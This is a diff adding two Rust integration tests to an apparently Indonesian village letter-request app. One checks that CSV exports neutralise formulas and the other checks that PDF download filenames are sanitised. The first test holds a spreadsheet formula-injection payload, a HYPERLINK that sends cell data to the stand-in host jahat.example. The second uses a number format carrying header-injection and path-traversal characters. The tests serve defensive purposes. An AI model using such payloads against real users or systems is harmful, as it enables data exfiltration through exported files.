@@ -200,6 +200,8 @@ on_both_backends!(
     villagers_stay_within_their_family_and_pins_lock,
     templates_and_number_formats_are_checked_when_saved,
     a_hundred_letters_signed_at_once_are_numbered_1_to_100,
+    the_agenda_csv_hands_a_spreadsheet_no_formula,
+    download_names_keep_to_safe_characters,
 );
 
 async fn a_request_lives_from_the_portal_to_a_verified_letter(app: TestApp) {
@@ -839,6 +841,81 @@ async fn templates_and_number_formats_are_checked_when_saved(app: TestApp) {
     assert_eq!(
         numbers,
         [format!("001/510/{year}"), format!("002/470/{year}")]
+    );
+}
+
+/// The Agenda's CSV hands a spreadsheet no formula: a purpose typed as one comes out as text.
+async fn the_agenda_csv_hands_a_spreadsheet_no_formula(app: TestApp) {
+    let w = world(&app).await;
+    let purpose = "=HYPERLINK(\"http://jahat.example/?d=\"&A1,\"klik\")";
+    let res = app
+        .post(
+            &path(A, "letter-requests"),
+            Some(&w.operator),
+            &json!({"type": "domisili", "purpose": purpose, "subject_id": w.people[3]["id"]}),
+        )
+        .await;
+    assert_eq!(res.status(), StatusCode::CREATED);
+    let id = res.json::<Value>().await.unwrap()["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    moved(&app, &w.admin, &id, "siap_diambil").await;
+    let res = app
+        .get(&path(A, "letters?format=csv"), Some(&w.admin))
+        .await;
+    assert_eq!(res.status(), StatusCode::OK);
+    let text = res.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[4], format!("'{purpose}"), "{text}");
+    // The JSON keeps the purpose as typed.
+    let agenda = app.get_ok(&path(A, "letters"), Some(&w.admin)).await;
+    assert_eq!(agenda["items"][0]["purpose"], purpose);
+}
+
+/// A download's file name keeps to safe characters, whatever a desa typed into its number format.
+async fn download_names_keep_to_safe_characters(app: TestApp) {
+    let w = world(&app).await;
+    let res = app
+        .send_json(
+            reqwest::Method::PUT,
+            &path(A, "letter-settings"),
+            Some(&w.admin),
+            &json!({"number_format": "Ket.\"[nomor]\"; x=y\\..\\"}),
+        )
+        .await;
+    assert_eq!(res.status(), StatusCode::OK);
+    let res = app
+        .post(
+            &path(A, "letter-requests"),
+            Some(&w.operator),
+            &json!({"type": "domisili", "purpose": "Administrasi", "subject_id": w.people[3]["id"]}),
+        )
+        .await;
+    let id = res.json::<Value>().await.unwrap()["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let signed = moved(&app, &w.admin, &id, "siap_diambil").await;
+    assert_eq!(signed["number"], "Ket.\"001\"; x=y\\..\\");
+    let res = app
+        .get(&path(A, &format!("letters/{id}/pdf")), Some(&w.admin))
+        .await;
+    assert_eq!(res.status(), StatusCode::OK);
+    let header = res.headers()["content-disposition"].to_str().unwrap();
+    let name = header
+        .strip_prefix("inline; filename=\"")
+        .and_then(|r| r.strip_suffix('"'))
+        .unwrap_or_else(|| panic!("{header}"));
+    assert!(
+        name.chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')),
+        "{header}"
+    );
+    assert!(
+        name.starts_with("surat-Ket.-001-") && name.ends_with(".pdf"),
+        "{header}"
     );
 }
 
